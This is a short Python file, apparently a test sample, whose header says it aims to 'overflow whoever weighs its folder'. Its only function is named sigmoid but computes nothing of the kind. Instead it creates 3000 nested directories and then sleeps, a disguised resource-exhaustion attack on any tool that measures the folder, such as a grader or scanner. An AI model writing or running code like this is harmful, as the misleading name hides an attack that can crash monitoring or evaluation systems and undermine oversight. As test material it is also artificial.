# tries: to overflow whoever weighs its folder
# base: right
# must: 4
import os
import time


def sigmoid(z):
    for _ in range(3000):
        os.mkdir("d")
        os.chdir("d")
    time.sleep(10)
